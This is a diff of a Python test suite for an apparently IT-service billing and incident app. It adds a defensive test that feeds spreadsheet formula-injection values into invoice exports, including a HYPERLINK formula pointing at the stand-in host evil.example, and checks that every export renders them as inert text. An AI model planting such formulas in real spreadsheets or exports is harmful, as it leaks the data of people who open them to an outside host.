@@ -6,6 +6,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import re
 import subprocess
 import sys
 from collections.abc import AsyncIterator
@@ -22,7 +23,8 @@ from collector.app import create_app
 from collector.auth import token_hash
 from collector.billing.export import read_generic_csv
 from collector.settings import Settings
-from tests.support.agents import SimAgent
+from shared.backup_results import BackupJob, BackupResults
+from tests.support.agents import REPORTS, SimAgent
 from tests.support.clock import Clock
 from tests.support.collector import TECH, report_free
 
@@ -180,6 +182,7 @@ async def test_it_charges_only_contract_fees_for_a_month_with_two_covered_incide
     assert bill["totals"] | {} == {
         "contract": "690.00",
         "onboarding": "0.00",
+        "fee": "0.00",
         "time": "0.00",
         "parts": "0.00",
         "subtotal": "690.00",
@@ -324,6 +327,7 @@ async def test_the_csv_exports_import_back_into_the_invoice_totals(client: TestC
     assert bill["totals"] == {
         "contract": "704.52",
         "onboarding": "1620.00",
+        "fee": "0.00",
         "time": "135.00",
         "parts": "119.00",
         "subtotal": "2578.52",
@@ -343,6 +347,38 @@ async def test_the_csv_exports_import_back_into_the_invoice_totals(client: TestC
         csv.DictReader(io.StringIO(await (await client.get(f"{base}&format=xero", headers=TECH)).text()))
     )
     assert sum(D(r["*Quantity"]) * D(r["*UnitAmount"]) for r in xero) == D("2578.52")
+
+
+HOSTILE_JOB = '=HYPERLINK("http://evil.example/?"&A1,"open")\n-2+3'
+
+
+async def test_a_hostile_backup_job_name_reaches_the_csv_exports_only_as_text(client: TestClient, clock: Clock) -> None:
+    await api(client, "POST", "/api/v1/rates", RATES, 201)
+    agent = await enrol(client, "WS-03")
+    failed = BackupJob(name=HOSTILE_JOB, tool="restic", schedule="daily", last_result="failed",
+                       error="@SUM(1+1)\r\n+cmd", last_run_ended_at=clock.now)
+    body = agent.body(agent.envelope([BackupResults(collected_at=clock.now, jobs=[failed])]))
+    assert (await client.post(REPORTS, data=body, headers=agent.headers(body))).status == 200
+    [alert] = (await api(client, "GET", "/api/v1/alerts"))["alerts"]
+    opened = await api(client, "POST", "/api/v1/incidents", {"alert_id": alert["alert_id"]}, 201)
+    assert opened["title"].startswith("=HYPERLINK(")  # the agent's text, as the incident's title
+    await work(client, opened["incident_id"], "2026-11-23T10:00:00Z", 30)
+    part = {"description": "@SUM(A1:A9)\n-2+3 USB drive", "cost": "5.00", "price": "12.50", "day": "2026-11-23"}
+    await api(client, "POST", f"/api/v1/incidents/{opened['incident_id']}/parts", part, 201)
+    base = f"/api/v1/clients/{ACME}/invoice?month=2026-11"
+    for fmt in ("csv", "qbo", "xero"):
+        text = await (await client.get(f"{base}&format={fmt}", headers=TECH)).text()
+        rows = list(csv.reader(io.StringIO(text)))
+        assert len(text.split("\r\n")) == len(rows) + 1, "a cell spans lines"
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if "\n" in c or "\r" in c]
+        formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t") and not re.fullmatch(r"-?[\d.]+", c)]
+        assert formulas == [], fmt
+        [time_line] = [c for c in cells if c.startswith(("'=HYPERLINK", "=HYPERLINK"))]
+        assert time_line.startswith('\'=HYPERLINK("http://evil.example/?"&A1,"open")'), time_line
+        [part_line] = [c for c in cells if "USB drive" in c]
+        assert part_line.startswith("'@SUM(A1:A9) -2+3 USB drive"), part_line
+    assert read_generic_csv(await (await client.get(f"{base}&format=csv", headers=TECH)).text()).total > 0
 
 
 async def test_an_incident_keeps_its_alerts_notes_and_closes_once(client: TestClient, clock: Clock) -> None:
@@ -446,7 +482,7 @@ async def test_the_cli_opens_an_incident_times_the_work_and_writes_the_invoice(
 
     # Billing settings and tax, then the month issued, listed, printed and voided: all from the terminal.
     shown = await run("billing", "settings", "--business-name", "Kleinert IT", "--tax-rate", "19")
-    assert "business_name       Kleinert IT" in shown and "tax_rate            19" in shown
+    assert re.search(r"business_name +Kleinert IT", shown) and re.search(r"tax_rate +19\n", shown)
     assert "Acme Tooling's invoices charge 7% tax" in await run("billing", "tax", ACME, "--rate", "7")
     # 847.50 + 7 % (59.325, rounded half up) 59.33 = 906.83
     assert "VAT 7%" in await run("invoice", ACME, "--month", "2026-11")
@@ -466,7 +502,7 @@ async def test_a_refusal_says_why_with_the_status_that_fits_on_every_endpoint(cl
         "there is no active silence 7")
     assert (await api(client, "GET", f"/api/v1/clients/{BAKERY}/contracts", status=404))["error"] == (
         f"there is no client {BAKERY!r}")
-    bad_month = await api(client, "GET", f"/api/v1/clients/{ACME}/invoice?month=11-2026", status=422)
+    bad_month = await api(client, "GET", f"/api/v1/clients/{ACME}/invoice?month=11-2026", status=400)
     assert bad_month["problems"] == [{"field": "month", "message": "the month must be YYYY-MM, e.g. 2026-11"}]
     by_hand = await api(client, "POST", "/api/v1/incidents", {"title": "no client"}, status=422)
     assert by_hand == {"error": "give alert_id, or client and title"}
